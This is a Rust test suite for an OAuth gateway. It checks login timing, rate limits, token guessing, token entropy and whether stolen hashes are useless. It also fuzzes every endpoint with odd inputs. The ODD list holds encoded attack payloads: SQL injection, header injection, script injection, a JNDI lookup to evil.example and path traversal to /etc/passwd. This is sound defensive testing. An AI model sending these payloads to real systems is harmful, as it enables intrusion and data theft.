//! What attackers try, and what it gets them: guesses, floods, odd bytes, what a stolen store holds.

use crate::harness::{CRM_SECRET, TestGateway, get};
use crate::oauth::{
    Browser, CHALLENGE, CRM, VERIFIER, client, encoded, exchange, old_client, post, public_client,
    refresh, token, tokens, wish, wish_with,
};
use callgate::secret::Secret;
use callgate::token::{Class, Mint, TokenHash};
use http::Method;
use serde_json::json;
use std::collections::BTreeSet;

/// The value of a counter in `/metrics`, by its name and labels; 0 when it is not there.
async fn counted(gateway: &TestGateway, name: &str) -> u64 {
    let metrics = gateway.admin_get("/metrics").await.text();
    let line = metrics
        .lines()
        .find_map(|line| line.strip_prefix(name)?.strip_prefix(' '));
    line.map_or(0, |value| value.parse().unwrap())
}

const WRITES: &str = "callgate_store_duration_seconds_count{operation=\"write\"}";

const HASHED: &str = "callgate_passwords_hashed";

async fn try_password(browser: &mut Browser<'_>, name: &str) -> u16 {
    let path = format!("/auth/login?{}", encoded(wish()));
    let page = browser.get(&path).await;
    let typed = [("username", name), ("password", "wrong")];
    browser.submit(&page, &typed).await.status.as_u16()
}

#[tokio::test]
async fn b05_at_38_an_unknown_user_costs_what_a_wrong_password_costs() {
    let gateway = TestGateway::start().await;
    let mut browser = Browser::new(&gateway);
    for name in ["ann", "nobody", "", "admin"] {
        let before = counted(&gateway, HASHED).await;
        let status = try_password(&mut browser, name).await;
        let work = counted(&gateway, HASHED).await - before;
        let typed = u64::from(!name.is_empty());
        assert_eq!(work, typed, "{name}");
        assert_eq!(status, if typed == 1 { 403 } else { 400 });
    }
}

#[tokio::test]
async fn b06_whoever_is_limited_costs_no_work() {
    let gateway = TestGateway::with("oauth.login_attempts = 3").await;
    let mut browser = Browser::new(&gateway);
    for name in ["ann", "nobody"] {
        for _ in 0..3 {
            assert_eq!(try_password(&mut browser, name).await, 403);
        }
        let before = counted(&gateway, HASHED).await;
        assert_eq!(try_password(&mut browser, name).await, 429);
        assert_eq!(counted(&gateway, HASHED).await, before);
    }
}

#[tokio::test]
async fn d09_at_38_an_unknown_client_costs_what_a_wrong_secret_costs() {
    let gateway = TestGateway::start().await;
    let form = [("grant_type", "client_credentials")];
    let mut costs = Vec::new();
    for name in ["crm", "nobody"] {
        let before = counted(&gateway, WRITES).await;
        let told = "callgate_audit_events_total{event=\"client_refused\"}";
        let refused = counted(&gateway, told).await;
        let answer = post(&gateway, "/oauth/token", Some((name, "wrong")), &form).await;
        assert_eq!(answer.status, 401);
        costs.push((
            counted(&gateway, WRITES).await - before,
            counted(&gateway, told).await - refused,
        ));
    }
    assert_eq!(costs[0], costs[1]);
    assert_eq!(costs[0].1, 1);
}

#[tokio::test]
async fn d19_a_guess_writes_nothing() {
    let gateway = TestGateway::start().await;
    let other = Mint::new(&Secret::new("k".repeat(32))).unwrap();
    let before = counted(&gateway, WRITES).await;
    for _ in 0..20 {
        let guesses = [
            other.mint(Class::Code).token,
            gateway.services.mint.mint(Class::Code).token,
        ];
        for guess in guesses {
            let answer = token(&gateway, &exchange(guess.expose())).await;
            assert_eq!(answer.json()["error"], "invalid_grant");
        }
        let guess = gateway.services.mint.mint(Class::Refresh).token;
        let answer = refresh(&gateway, guess.expose()).await;
        assert_eq!(answer.json()["error"], "invalid_grant");
    }
    assert_eq!(counted(&gateway, WRITES).await, before);
}

#[tokio::test]
async fn d20_ten_thousand_tokens_are_ten_thousand() {
    let gateway = TestGateway::start().await;
    let mint = &gateway.services.mint;
    let mut seen = BTreeSet::new();
    for class in [Class::Code, Class::Access, Class::Refresh, Class::Session] {
        for _ in 0..2_500 {
            let minted = mint.mint(class).token;
            let random = minted.expose().strip_prefix(class.prefix()).unwrap();
            // 192 bits by chance, 64 that show that they are ours.
            assert_eq!(random.len(), 43);
            assert!(seen.insert(random[..32].to_owned()));
        }
    }
    assert_eq!(seen.len(), 10_000);
}

#[tokio::test]
async fn e08_one_challenge_in_three_logins_is_told() {
    let gateway = TestGateway::start().await;
    let reused = async || {
        let log = gateway
            .admin_get("/admin/audit?event=challenge_reused")
            .await
            .json();
        log["items"].as_array().unwrap().clone()
    };
    for name in ["ann", "bob"] {
        Browser::new(&gateway).allow(name, &wish()).await;
    }
    let mut browser = Browser::new(&gateway);
    let wish = wish_with(&[("client_id", "spa")]);
    public_client(&gateway, "spa").await;
    browser.allow("ann", &wish).await;
    for _ in 0..3 {
        let page = browser
            .get(&format!("/auth/grant?{}", encoded(&wish)))
            .await;
        let again = browser.submit(&page, &[("grant", "true")]).await;
        assert_eq!(again.status, 303);
    }
    assert_eq!(
        reused().await.len(),
        0,
        "two logins, or one of another client"
    );
    Browser::new(&gateway)
        .log_in("bob", &crate::oauth::wish())
        .await;
    Browser::new(&gateway)
        .allow("ann", &wish_with(&[("scope", "call pbx")]))
        .await;
    let told = reused().await;
    assert_eq!(told.len(), 1, "{told:?}");
    assert_eq!(
        (&told[0]["client"], &told[0]["detail"]),
        (&json!("crm"), &json!({ "logins": 3 }))
    );
    assert!(!told[0].to_string().contains(CHALLENGE));
}

#[tokio::test]
async fn o02_what_the_store_holds_opens_nothing() {
    let gateway = TestGateway::start().await;
    let tokens = tokens(&gateway).await;
    let hash_of = |name: &str| TokenHash::of(tokens[name].as_str().unwrap()).to_string();
    let (access, renewal) = (hash_of("access_token"), hash_of("refresh_token"));
    for stolen in [access.clone(), format!("cg_at_{access}")] {
        let answer = gateway.edge(get("/rest/call", &Secret::new(stolen))).await;
        assert_eq!(answer.status, 401);
    }
    for stolen in [renewal.clone(), format!("cg_rt_{renewal}")] {
        let answer = refresh(&gateway, &stolen).await;
        assert_eq!(answer.json()["error"], "invalid_grant");
    }
    let secret = TokenHash::of(CRM_SECRET).to_string();
    let form = [("grant_type", "client_credentials")];
    let answer = post(&gateway, "/oauth/token", Some(("crm", &secret)), &form).await;
    assert_eq!(answer.status, 401);
    let mut browser = Browser::new(&gateway);
    browser.log_in("ann", &wish()).await;
    let session = TokenHash::of(&browser.cookies["__Host-callgate"]).to_string();
    for stolen in [session.clone(), format!("cg_se_{session}")] {
        browser.cookies.insert("__Host-callgate".to_owned(), stolen);
        let path = format!("/auth/grant?{}", encoded(wish()));
        let answer = browser.get(&path).await;
        assert!(answer.header("location").starts_with("/auth/login?"));
    }
    let user = gateway.services.store.user("id-of-ann").await.unwrap();
    let hash = user.unwrap().password_hash.unwrap();
    let mut browser = Browser::new(&gateway);
    let page = browser
        .get(&format!("/auth/login?{}", encoded(wish())))
        .await;
    let answer = browser
        .submit(&page, &[("username", "ann"), ("password", &hash)])
        .await;
    assert_eq!(answer.status, 403);
}

/// Texts that mean something to a database, a shell, a template, a log or a terminal, and some that are no text.
const ODD: [&str; 22] = [
    "%27",
    "%27+OR+%271%27%3D%271",
    "%27%3B+DROP+TABLE+users%3B+--",
    "%22%3B+DELETE+FROM+tokens%3B+--",
    "1%29+UNION+SELECT+*+FROM+users+--",
    "%25",
    "_",
    "%5C",
    "%5C%27",
    "%00",
    "a%00b",
    "%FF%FE",
    "%C3%28",
    "%ED%A0%80",
    "%0D%0ASet-Cookie%3A+a%3Db",
    "%1B%5B31m",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "%7B%7B7*7%7D%7D",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "-1",
    "99999999999999999999999999",
];

/// What is sent well, but for one parameter.
fn good() -> Vec<(&'static str, String)> {
    let mut good: Vec<_> = wish().into_iter().collect();
    for (name, value) in [
        ("grant_type", "authorization_code"),
        ("code", "cg_ac_x"),
        ("code_verifier", VERIFIER),
        ("refresh_token", "cg_rt_x"),
        ("token", "cg_at_x"),
        ("token_type_hint", "access_token"),
        ("client_secret", CRM_SECRET),
        ("username", "ann"),
        ("password", "wrong"),
        ("grant", "true"),
        ("consent", "x"),
        ("csrf_token", "x"),
        ("to", "account"),
        ("tenant", "acme"),
        ("organisation", "acme"),
        ("device_code", "x"),
        ("user_code", "BCDF-GHJK"),
        ("client_assertion", "x.y.z"),
        ("client_assertion_type", "x"),
        ("request_uri", "urn:x"),
        ("iss", "https://idp.example"),
        ("id", "x"),
    ] {
        good.push((name, value.to_owned()));
    }
    good
}

/// What belongs to the endpoint, with the parameters that are `odd` replaced.
fn body(is_odd: impl Fn(&str) -> bool, odd: &str, belong: &[&str]) -> String {
    let good = good();
    let pairs: Vec<_> = good
        .iter()
        .filter_map(|(name, value)| {
            if is_odd(name) {
                return Some(format!("{name}={odd}"));
            }
            belong.contains(name).then(|| encoded([(name, value)]))
        })
        .collect();
    pairs.join("&")
}

const REQUEST: &[&str] = &[
    "client_id",
    "response_type",
    "redirect_uri",
    "scope",
    "state",
    "code_challenge",
    "code_challenge_method",
];
const LOGIN: &[&str] = &[
    "client_id",
    "response_type",
    "redirect_uri",
    "code_challenge",
    "code_challenge_method",
    "csrf_token",
    "username",
    "password",
];
const CODE: &[&str] = &[
    "grant_type",
    "client_id",
    "client_secret",
    "code",
    "redirect_uri",
    "code_verifier",
];
const TOKEN: &[&str] = &["client_id", "client_secret", "token"];

/// Sends every parameter oddly to every endpoint for OAuth that there is, in the query and in the form.
#[tokio::test]
async fn o05_no_parameter_of_any_endpoint_breaks_anything() {
    let limits = "oauth.address_attempts = 1000000\noauth.login_attempts = 3";
    let gateway = TestGateway::with(limits).await;
    old_client(&gateway, "token_get json_ui no_pkce").await;
    let endpoints: Vec<(Method, String)> = gateway
        .version
        .edge
        .gateway
        .routes
        .all()
        .filter(|(path, _)| {
            ["/oauth/", "/auth/", "/account", "/device", "/.well-known/"]
                .iter()
                .any(|prefix| path.starts_with(prefix))
        })
        .flat_map(|(path, route)| {
            let methods = route.methods.iter().filter(|it| *it != Method::HEAD);
            methods.map(|method| (method.clone(), path.replace(['{', '}'], "")))
        })
        .collect();
    assert!(endpoints.len() > 15, "{endpoints:?}");
    let mut browser = Browser::new(&gateway);
    browser.log_in("ann", &wish()).await;
    let mut asked = 0;
    for (method, path) in &endpoints {
        let belong = match path.as_str() {
            "/oauth/token" => CODE,
            "/oauth/revoke" | "/oauth/introspect" => TOKEN,
            "/auth/login" if *method == Method::POST => LOGIN,
            "/auth/logout" => &[],
            _ => REQUEST,
        };
        // Each that belongs there alone, and all others at once.
        let others = |name: &str| !belong.contains(&name);
        for wrong in belong.iter().copied().map(Some).chain([None]) {
            for odd in ODD {
                let is_odd = |name: &str| wrong.map_or(others(name), |wrong| wrong == name);
                let pairs = body(is_odd, odd, belong);
                let in_query = format!("{path}?{pairs}");
                let mut answers = vec![browser.send(method.clone(), &in_query, "").await];
                if *method == Method::POST {
                    answers.push(browser.send(method.clone(), path, &pairs).await);
                }
                for answer in answers {
                    let text = String::from_utf8_lossy(&answer.body);
                    assert!(
                        !answer.status.is_server_error(),
                        "{method} {in_query}: {text}"
                    );
                    assert!(!text.contains("<script>alert"), "{in_query}: {text}");
                    let cookies = answer.headers.get_all("set-cookie");
                    assert!(
                        cookies
                            .iter()
                            .all(|cookie| !cookie.as_bytes().starts_with(b"a=b"))
                    );
                    asked += 1;
                }
            }
        }
    }
    assert!(asked > 2_000, "{asked}");
    let store = &gateway.services.store;
    assert_eq!(store.users(None).await.unwrap().len(), 2);
    assert_eq!(store.clients(None).await.unwrap().len(), 2);
    assert_eq!(tokens(&gateway).await["token_type"], "Bearer");
}

#[tokio::test]
async fn k02_what_the_metadata_list_works_and_what_they_do_not_list_fails() {
    let gateway = TestGateway::start().await;
    public_client(&gateway, "spa").await;
    client(&gateway, "all", |all| {
        all.grant_types = "authorization_code client_credentials refresh_token \
                           urn:ietf:params:oauth:grant-type:device_code"
            .to_owned()
            .into();
    })
    .await;
    let metadata = Browser::script(&gateway)
        .get("/.well-known/oauth-authorization-server")
        .await
        .json();
    let listed = |name: &str| -> Vec<String> {
        serde_json::from_value(metadata[name].clone()).unwrap_or_default()
    };
    let all = Some(("all", CRM_SECRET));
    let ask = async |grant: &str| {
        let answer = post(&gateway, "/oauth/token", all, &[("grant_type", grant)]).await;
        answer.json()["error"] == "unsupported_grant_type"
    };
    for grant in listed("grant_types_supported") {
        assert!(!ask(&grant).await, "{grant}");
    }
    for grant in [
        "implicit",
        "password",
        "urn:ietf:params:oauth:grant-type:jwt-bearer",
        "urn:ietf:params:oauth:grant-type:saml2-bearer",
        "urn:ietf:params:oauth:grant-type:token-exchange",
        "urn:openid:params:grant-type:ciba",
    ] {
        assert!(!listed("grant_types_supported").contains(&grant.to_owned()));
        assert!(ask(grant).await, "{grant}");
    }
    let authorize = async |changes: &[(&'static str, &str)]| {
        let path = format!("/oauth/authorize?{}", encoded(wish_with(changes)));
        let answer = Browser::new(&gateway).get(&path).await;
        answer.header("location").starts_with("/auth/login?")
    };
    for (list, name, candidates) in [
        (
            "response_types_supported",
            "response_type",
            &[
                "code",
                "token",
                "id_token",
                "code id_token",
                "code token",
                "none",
            ][..],
        ),
        (
            "response_modes_supported",
            "response_mode",
            &["query", "fragment", "form_post", "jwt", "query.jwt"][..],
        ),
        (
            "code_challenge_methods_supported",
            "code_challenge_method",
            &["S256", "plain", "S512"][..],
        ),
    ] {
        for candidate in candidates {
            let works = authorize(&[(name, candidate)]).await;
            let is_listed = listed(list).contains(&(*candidate).to_owned());
            assert_eq!(works, is_listed, "{name}={candidate}");
        }
    }
    for method in listed("token_endpoint_auth_methods_supported") {
        let form = [("grant_type", "client_credentials")];
        let answer = match method.as_str() {
            "client_secret_basic" => post(&gateway, "/oauth/token", CRM, &form).await,
            "client_secret_post" => {
                let id = [form[0], ("client_id", "crm"), ("client_secret", CRM_SECRET)];
                post(&gateway, "/oauth/token", None, &id).await
            }
            "none" => {
                let wish = wish_with(&[("client_id", "spa")]);
                let code = crate::oauth::code_for(&gateway, &wish).await;
                let mut form = exchange(&code).to_vec();
                form.push(("client_id", "spa"));
                post(&gateway, "/oauth/token", None, &form).await
            }
            // Has tests of its own.
            "private_key_jwt" => continue,
            other => panic!("{other} is not known here"),
        };
        assert_eq!(answer.status, 200, "{method}: {}", answer.text());
    }
    for (name, value) in metadata.as_object().unwrap() {
        if let Some(path) = value
            .as_str()
            .filter(|_| name.ends_with("_endpoint") || name == "jwks_uri")
        {
            let answer = Browser::script(&gateway).get(path).await;
            assert_ne!(answer.status, 404, "{name}");
        }
    }
}
